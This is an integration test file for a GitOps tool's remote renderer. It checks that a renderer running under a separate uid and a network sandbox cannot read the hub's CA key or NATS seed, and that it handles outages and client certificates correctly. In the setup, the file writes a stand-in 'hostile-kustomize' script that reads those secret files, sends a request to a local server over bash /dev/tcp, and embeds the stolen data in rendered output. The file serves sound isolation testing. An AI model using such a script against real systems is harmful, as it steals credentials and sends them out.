// The renderer as its own process and user (render.remote), in a real installation: hub,
// agent, kube-apiserver, nats-server, Git server. The renderer runs as uid 65534 (the
// chart runs it as 10002), so:
//   - a Kustomize bundle renders through it and reaches the cluster and status;
//   - a hostile "kustomize" (a script standing for a program exploited by fleet-repo
//     content) cannot read the hub's CA key or NATS account seed: the separate uid alone
//     keeps them out of reach (the renderer's own sandbox is "none" for that part), while
//     the same script run as the hub's user reads them (the test can fail);
//   - the network: the separate uid does not block it (the script reaches a local HTTP
//     server at level none — in a cluster, the chart's NetworkPolicy is what blocks it);
//     with the renderer's "network" level the server receives nothing;
//   - the renderer going away: the hub keeps serving, says "renderer" is degraded, plain
//     bundles still update, the Kustomize bundle keeps its last rendering, and catches up
//     when the renderer is back;
//   - a client without the hub's certificate is refused.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { chmod, chown, copyFile, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { connect } from 'node:http2';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, test } from 'node:test';
import { promisify } from 'node:util';
import { CoreV1Api, KubeConfig } from '@kubernetes/client-node';
import {
  binaryPaths,
  freePort,
  requireEnv,
  requirePrerequisite,
  spawnServer,
  waitFor,
} from '@flotilla/test-env';
import type { ManagedProcess } from '@flotilla/test-env';
import { FLOTILLA_BIN, startFleet } from '../system/fleet.js';
import type { Fleet } from '../system/fleet.js';

const run = promisify(execFile);
const CLUSTER = 'edge';
const NOBODY = 65534;
const skip =
  (await requireEnv(['cluster', 'nats', 'git'])) ??
  (await requirePrerequisite(
    'root and setpriv, to run the renderer as another user',
    async () => {
      if (process.getuid?.() !== 0) return 'the tests run as a non-root user';
      await run('setpriv', ['--version']);
      return true;
    },
    'run the integration tests as root (as CI does in its container), with util-linux',
  ));

const bundle = (name: string, source: string): string =>
  `apiVersion: flotilla.dev/v1alpha1\nkind: Bundle\nmetadata:\n  name: ${name}\nspec:\n  source: ${source}\n  namespace: app\n  targets:\n    - clusterSelector: {}\n`;
const cm = (name: string, value: string): string =>
  `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: ${name}\ndata:\n  value: "${value}"\n`;

let fleet: Fleet | undefined;
let work = '';
let renderer: ManagedProcess | undefined;
let rendererStarts = 0;
let address = '';
let tls = '';
let hostile = '';
let helmBin = '';
let caKeyFile = '';
let seedFile = '';
const requests: string[] = [];
const http = createServer((req, res) => {
  requests.push(`${req.method ?? ''} ${req.url ?? ''}`);
  res.end('ok');
});

async function startRenderer(sandbox: 'none' | 'network'): Promise<void> {
  rendererStarts += 1;
  const p = spawnServer(
    'renderer',
    'setpriv',
    [
      `--reuid=${NOBODY}`,
      `--regid=${NOBODY}`,
      '--clear-groups',
      process.execPath,
      FLOTILLA_BIN,
      'renderer',
      '--listen',
      address,
      '--cert',
      join(tls, 'renderer.crt'),
      '--key',
      join(tls, 'renderer.key'),
      '--client-ca',
      join(tls, 'ca.crt'),
      '--kustomize',
      hostile,
      '--helm',
      helmBin,
      '--sandbox',
      sandbox,
    ],
    { logFile: join(fleet?.logDir ?? work, `renderer-${rendererStarts}.log`), cwd: '/' },
  );
  renderer = p;
  await waitFor(
    async () => {
      if (!p.isRunning()) throw new Error(`renderer exited; log ${p.logFile}:\n${p.logTail()}`);
      return (await readFile(p.logFile, 'utf8')).includes('renderer listening');
    },
    { what: `renderer listening at ${address}`, timeoutMs: 30_000, intervalMs: 200 },
  );
}

before(async () => {
  if (skip) return;
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  const port = (http.address() as AddressInfo).port;
  work = await mkdtemp(join(tmpdir(), 'flotilla-remote-renderer-'));
  await chmod(work, 0o755);
  tls = join(work, 'tls');
  await run(process.execPath, [
    FLOTILLA_BIN,
    'renderer',
    'certs',
    '--out',
    tls,
    '--hosts',
    '127.0.0.1,localhost',
  ]);
  // The renderer's own material is its user's; the hub's client key stays root's (0600).
  await chmod(tls, 0o755);
  await chown(join(tls, 'renderer.key'), NOBODY, NOBODY);
  // The cached kustomize lives under root's private HOME: a copy every user can run.
  const bin = join(work, 'bin');
  await mkdir(bin, { mode: 0o755 });
  await chmod(bin, 0o755);
  const kustomize = join(bin, 'kustomize');
  await copyFile(binaryPaths().kustomize, kustomize);
  await chmod(kustomize, 0o755);
  helmBin = join(bin, 'helm');
  await copyFile(binaryPaths().helm, helmBin);
  await chmod(helmBin, 0o755);
  address = `127.0.0.1:${await freePort()}`;
  fleet = await startFleet({
    clusters: [CLUSTER],
    repoFiles: {
      [`clusters/${CLUSTER}.yaml`]: `apiVersion: flotilla.dev/v1alpha1\nkind: Cluster\nmetadata:\n  name: ${CLUSTER}\n`,
      'bundles/app/bundle.yaml': bundle('app', '{ kustomize: { path: k } }'),
      'bundles/app/k/kustomization.yaml': 'resources: [cm.yaml]\n',
      'bundles/app/k/cm.yaml': cm('built', 'one'),
      // A chart kept in the repo, with values: helm runs on the renderer too.
      'bundles/web/bundle.yaml': bundle(
        'web',
        '{ helm: { chart: chart, releaseName: web, values: { greeting: hello-from-helm } } }',
      ),
      'bundles/web/chart/Chart.yaml': 'apiVersion: v2\nname: web\nversion: 0.1.0\n',
      'bundles/web/chart/templates/cm.yaml':
        'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {{ .Release.Name }}-greeting\ndata:\n  value: {{ .Values.greeting | quote }}\n',
      'bundles/plain/bundle.yaml': bundle('plain', '{ path: m }'),
      'bundles/plain/m/cm.yaml': cm('plain', 'one'),
    },
    render: {
      remote: `{ address: "${address}", caFile: ${join(tls, 'ca.crt')}, certFile: ${join(tls, 'hub.crt')}, keyFile: ${join(tls, 'hub.key')} }`,
    },
    // The renderer starts below: until then the hub is degraded and renders again when it is up.
  });
  caKeyFile = join(fleet.adminDir, 'ca.key');
  seedFile = join(dirname(fleet.adminDir), 'account.seed');
  // Stands for kustomize exploited by fleet-repo content: it reads the hub's secrets and
  // calls a local server, then builds, and puts what it read into the output. The call is
  // bash's /dev/tcp, not node: Node.js 24 cannot start under the tools' 512 MiB
  // RLIMIT_DATA (V8 reserves its code range up front), Node.js 20 can.
  hostile = join(bin, 'hostile-kustomize');
  await writeFile(
    hostile,
    `#!/bin/sh
stolen=$( { cat ${caKeyFile}; cat ${seedFile}; } 2>&1 | head -c 3000 | base64 -w0 )
bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port} && printf "GET /exfiltrate HTTP/1.0\\r\\n\\r\\n" >&3 && cat <&3 >/dev/null' 2>/dev/null
${kustomize} "$@" || exit $?
printf -- '---\\napiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: stolen\\ndata:\\n  b64: "%s"\\n' "$stolen"
`,
  );
  await chmod(hostile, 0o755);
  await startRenderer('none');
});

after(async () => {
  await renderer?.stop(5_000);
  await fleet?.stop();
  http.close();
  if (work) await rm(work, { recursive: true, force: true });
});

function core(): CoreV1Api {
  const kc = new KubeConfig();
  kc.loadFromFile(fleet!.clusters.get(CLUSTER)!.kubeconfigPath);
  return kc.makeApiClient(CoreV1Api);
}

async function data(name: string): Promise<Record<string, string> | undefined> {
  try {
    return (await core().readNamespacedConfigMap({ name, namespace: 'app' })).data ?? {};
  } catch (err) {
    if ((err as { code?: number }).code === 404) return undefined;
    throw err;
  }
}

async function hubDegraded(): Promise<{ reason: string; message: string }[]> {
  const out = await fleet!.cli(['status']).catch((err: Error) => err.message);
  return out
    .split('\n')
    .filter((l) => l.startsWith('HUB DEGRADED: '))
    .map((l) => ({ reason: /renderer/.test(l) ? 'renderer' : 'other', message: l }));
}

test(
  'kustomize-and-helm-bundles-render-on-the-renderer-and-its-user-cannot-read-the-hubs-keys',
  { skip, timeout: 300_000 },
  async () => {
    const f = fleet!;
    await f.waitForRevision(f.firstCommit, 120_000);
    assert.deepEqual(await data('built'), { value: 'one' }, 'built by kustomize on the renderer');
    assert.deepEqual(await data('web-greeting'), { value: 'hello-from-helm' }, 'and helm');
    const stolen = Buffer.from((await data('stolen'))?.b64 ?? '', 'base64').toString('utf8');
    const caKey = await readFile(caKeyFile, 'utf8');
    const seed = (await readFile(seedFile, 'utf8')).trim();
    assert.match(stolen, /Permission denied/, stolen);
    assert.ok(!stolen.includes(caKey.split('\n')[1] as string), 'no CA key bytes rendered');
    assert.ok(!stolen.includes('PRIVATE KEY'), 'no key material rendered');
    assert.ok(!stolen.includes(seed), 'no NATS seed rendered');
    // Honest about the network: a separate uid alone does not keep a local server out.
    assert.ok(requests.length > 0, 'at level none the script reached the local server');
    // The same script as the hub's user reads both: the uid is what kept them out.
    const dir = await mkdtemp(join(work, 'k-'));
    await writeFile(join(dir, 'kustomization.yaml'), 'resources: []\n');
    const asHub = await run(hostile, ['build', dir]);
    const read = Buffer.from(/b64: "([^"]*)"/.exec(asHub.stdout)?.[1] ?? '', 'base64').toString();
    assert.ok(
      read.includes('PRIVATE KEY') && read.includes(seed.slice(0, 20)),
      'control: readable as root',
    );
  },
);

test(
  'with-the-renderers-network-sandbox-a-render-reaches-no-local-http-server',
  { skip, timeout: 300_000 },
  async () => {
    const f = fleet!;
    await renderer!.stop(5_000);
    await startRenderer('network');
    requests.length = 0;
    await f.repo.writeFiles({ 'bundles/app/k/cm.yaml': cm('built', 'two') });
    const rev = await f.repo.commitAndPush('app: two');
    await f.waitForRevision(rev, 120_000);
    assert.deepEqual(await data('built'), { value: 'two' });
    const stolen = Buffer.from((await data('stolen'))?.b64 ?? '', 'base64').toString('utf8');
    assert.match(stolen, /Permission denied/);
    assert.deepEqual(requests, [], 'the local HTTP server received nothing');
  },
);

test(
  'the-renderer-going-away-degrades-the-hub-which-keeps-serving-and-catches-up-when-it-is-back',
  { skip, timeout: 300_000 },
  async () => {
    const f = fleet!;
    await renderer!.stop(5_000);
    const degraded = await waitFor(
      async () => {
        const d = (await hubDegraded()).filter((x) => x.reason === 'renderer');
        return d.length > 0 ? d : undefined;
      },
      { what: 'flotilla status saying the renderer is degraded', timeoutMs: 60_000 },
    );
    assert.match(degraded[0]?.message ?? '', new RegExp(`renderer ${address} unreachable since`));
    await f.repo.writeFiles({
      'bundles/app/k/cm.yaml': cm('built', 'three'),
      'bundles/plain/m/cm.yaml': cm('plain', 'three'),
    });
    await f.repo.commitAndPush('app and plain: three');
    // The plain bundle is served; the Kustomize one keeps its last rendering.
    await waitFor(async () => (await data('plain'))?.value === 'three', {
      what: 'the plain bundle updated while the renderer is away',
      timeoutMs: 120_000,
    });
    assert.equal((await data('built'))?.value, 'two');
    const bundles = await f.cli(['get', 'sources', '-o', 'json']).catch((e: Error) => e.message);
    assert.match(bundles, /renderer at 127\.0\.0\.1:\d+ is unavailable/);

    await startRenderer('network');
    await waitFor(async () => (await data('built'))?.value === 'three', {
      what: 'the Kustomize bundle rendered once the renderer is back',
      timeoutMs: 120_000,
    });
    await waitFor(async () => (await hubDegraded()).length === 0, {
      what: 'the hub no longer degraded',
      timeoutMs: 60_000,
    });
  },
);

test('the-renderer-refuses-a-client-without-the-hubs-certificate', { skip }, async () => {
  const ca = await readFile(join(tls, 'ca.crt'));
  const get = (opts: { cert?: Buffer; key?: Buffer }): Promise<number> =>
    new Promise((resolve, reject) => {
      const s = connect(`https://${address}`, { ca, ...opts });
      s.on('error', reject);
      s.on('close', () => reject(new Error('connection closed')));
      s.setTimeout(10_000, () => s.destroy(new Error('no answer')));
      const req = s.request({ ':path': '/healthz' });
      req.on('response', (h) => {
        resolve(Number(h[':status']));
        s.close();
      });
      req.on('error', reject);
      req.end();
    });
  await assert.rejects(get({}), 'no client certificate: refused');
  assert.equal(
    await get({
      cert: await readFile(join(tls, 'hub.crt')),
      key: await readFile(join(tls, 'hub.key')),
    }),
    200,
    "the hub's certificate is accepted",
  );
});
